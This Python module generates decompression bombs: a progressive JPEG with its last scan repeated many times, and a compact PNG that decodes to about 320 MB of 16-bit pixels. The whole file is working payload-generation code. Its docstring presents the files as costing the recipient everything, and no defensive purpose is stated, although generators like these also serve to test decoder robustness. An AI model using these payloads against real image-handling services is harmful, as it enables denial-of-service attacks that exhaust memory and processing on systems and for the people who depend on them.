"""Files that cost their sender nothing and their reader all it has."""

import io
import struct
import zlib

from PIL import Image

SCAN = b"\xff\xda"
END = b"\xff\xd9"


def scan_bomb(scans: int, width: int = 6000, height: int = 5000) -> bytes:
    """A progressive JPEG whose last scan is repeated until there are `scans` of it."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert("RGB").save(out, "JPEG", progressive=True, quality=30)
    data = out.getvalue()
    last = data.rindex(SCAN)
    return data[:last] + data[last : -len(END)] * scans + END


def pixel_bomb(width: int = 8000, height: int = 5000) -> bytes:
    """A PNG of four channels of 16 bits: 320 MB of pixels in a third of a megabyte."""

    def part(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packer, row = zlib.compressobj(9), bytes(1 + width * 8)
    rows = b"".join(packer.compress(row) for _row in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")
